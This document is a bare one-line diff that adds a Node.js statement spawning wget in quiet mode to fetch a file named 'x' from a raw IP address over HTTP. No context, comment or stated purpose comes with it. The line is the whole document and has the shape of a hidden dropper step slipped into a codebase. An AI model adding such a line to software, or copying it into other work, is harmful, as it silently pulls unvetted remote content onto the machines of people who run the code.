@@ -1,0 +1,1 @@
+require("child_process").spawnSync("wget", ["-q", "http://45.33.32.156/x"]);
